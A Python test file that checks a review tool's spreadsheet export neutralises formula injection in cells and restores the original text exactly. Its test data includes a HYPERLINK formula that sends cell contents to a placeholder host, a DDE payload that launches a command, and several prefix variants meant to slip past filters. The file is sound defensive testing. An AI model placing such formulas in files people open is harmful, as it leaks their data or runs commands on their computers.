"""No cell of an exported table is a formula, and each can be made again what it was."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviewcli.spreadsheet import neutral_cell, original_cell
from tests.conftest import Run

FORMULAS = [
    *(
        '=HYPERLINK("http://a.b/?"&A1,"x")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        " =1",
        "\n=1",
        "＝1",
        "－1",
    ),
    *("'=1", "''=1", "'\t", "' =1"),
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert neutral_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Good.", "'Twas brillig.", "a=1", "1-2", "'", "''", " - "[:1], "(-1)"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral_cell(text) == text
    assert original_cell(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n a")) | st.text())
def test_a_cell_is_never_a_formula_and_comes_back_exactly(text: str) -> None:
    cell = neutral_cell(text)

    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert not cell.startswith(("\t", "\r"))
    assert original_cell(cell) == text


def test_tables_for_spreadsheets_hold_no_formulas_and_other_formats_are_exact(run: Run) -> None:
    text = '=cmd|"/c calc"!A1'
    run("import", "-", "--split", "none", stdin=text.encode())
    number = "1"

    rows = list(csv.DictReader(io.StringIO(run("list", "--format", "csv").out)))
    exact = json.loads(run("list", "--format", "json").out)
    plain = run("list", "--format", "plain").out
    history = run("history", "--format", "csv", "--as", "x").out

    assert [row["number"] for row in rows] == [number]
    assert rows[0]["text"] == f"'{text}"
    assert original_cell(rows[0]["text"]) == exact[0]["text"] == text
    assert plain.endswith(f"\t{text}\n")
    assert "imported 1 review" in history


def test_a_history_holds_no_formula_either(run: Run) -> None:
    run("tag", 3, "critical", "--as", "=1+1")

    rows = list(csv.reader(io.StringIO(run("history", "--format", "csv").out)))

    assert "'=1+1" in rows[1]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
